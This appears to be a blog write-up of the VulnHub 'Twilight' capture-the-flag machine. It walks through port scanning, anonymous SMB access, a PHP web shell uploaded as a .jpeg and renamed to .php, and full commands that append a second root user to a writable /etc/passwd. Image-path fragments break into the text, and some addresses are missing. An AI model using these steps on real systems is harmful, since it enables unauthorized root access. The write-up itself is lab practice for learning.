Easy/Intermediate (May variate depending on your background)
It is recommended to run this machine in Virtualbox.
This works better with VirtualBox rather than VMware

Okay let’s see what we can do with this.

VMWare vs VirtualBox

I run Kali in VMWare but I do have VirtualBox too. I downloaded the file as the .7z archive and unzipped it, then imported the applicance into VirtualBox. For networking it defaults to Bridged Mode and that works okay; I check my router for DHCP leases and get the IP -

The banner says it’s Debian GNU/Linux 10 twilight tty1. Running a ping on the IP gives a TTL of 128; not sure what’s up with that.


So we’ve got quite a selection of ports:

  • 22/tcp open ssh syn-ack ttl 128
  •25/tcp open smtp syn-ack ttl 128
  • 80/tcp open http syn-ack ttl 128
  • 139/tcp open netbios-ssn syn-ack ttl 128
  • 445/tcp open microsoft-ds syn-ack ttl 128
  • 2121/tcp open ccproxy-ftp syn-ack ttl 128
  • 3306/tcp open mysql syn-ack ttl 128
  • 8080/tcp open http-proxy syn-ack ttl 128
  • 63525/tcp open unknown syn-ack ttl 128

We’ll probably need some more details on those, so I kick off a detail scan. In the meantime…


Port 2121 is FTP and anonymous login is allowed but there is nothing interesting in the directory and we can’t move around, so that’s not very useful.


SMB anonymous login is allowed, so we can poke around the server:

root@kali:/opt/vulnhub/twilight# smbclient -L \\
Enter WORKGROUP\roots password:

    Sharename       Type      Comment
    ---       ----      ---
    WRKSHARE        Disk      Workplace Share. Do not access if not an employee.
    print$          Disk      Printer Drivers
    IPC$            IPC       IPC Service (Samba 4.9.5-Debian)
SMB1 disabled -- no workgroup available

We should check out that WRKSHARE folder.

root@kali:/opt/vulnhub/twilight# smbclient \\\\\\WRKSHAREThis is actually the server root (assuming we’re not in a container), so that’s nice. I get /etc/passwd and can see we have a user called miguel in /home, but we can’t read his directory. Checking /var/www/html we can poke around the files that make up the website on port 80, and there is an upload function in - maybe we can use this for a shell?


Sure enough we can upload a PHP shell as shell.jpeg through the web interface on port 80, then rename it via the SMB connection to shell.php. From there we can access it via and get a reverse shell back to our attack machine.


As usual I ran linpeas, and it highlighted that /etc/passwd was writeable, along with some other interesting things. I’m guessing there are a few paths to root on this box. Anyway, with a writeable passwd file, we can add a new user with a new password using this technique from stackexchange.

# to generate hash of the passwordopenssl passwd mrcake

# to create a second root user with "mrcake" password
echo "root2:WVLY0mgH0RtUI:0:0:root:/root:/bin/bash" >> /etc/passwd

# to switch to a root2
su root2
Password: mrcake

Let’s try it out, and we’ll even use his ‘mrcake’ password suggestion:

www-data@twilight:/dev/shm$ openssl passwd mrcake
hKLD3431415ZEopenssl passwd mrcake
www-data@twilight:/dev/shm$ echo "root2:WVLY0mgH0RtUI:0:0:root:/root:/bin/bash" >> /etc/passwd
<Y0mgH0RtUI:0:0:root:/root:/bin/bash" >> /etc/passwd
www-data@twilight:/dev/shm$ su root2
su root2
Password: mrcakeBoom. There is a flag in /root/root.txt, but there’s nowhere to submit it so it doesn’t really matter.

cat root.txt
 \'\     ___
 / '|   ()___)
 \ '/    \ ~~~ \
   \       \ ~~~   \
   ==).      \___\
  (__)       ()___)



I haven’t been writing much lately, been stuck on some intermediate stuff on TryHackMe and not moving forward much. I did complete the ‘Git Happens’ room though, which was a very straightforwardenumeration of a git repo to findsome credentials. I also completed OpenKeyS on HackTheBox but I’m not allowed to write that up just yet. I’ve neverbothered writing up a HTB machine yet,since I’ve moved on by thetime they become inactive. Maybe one day.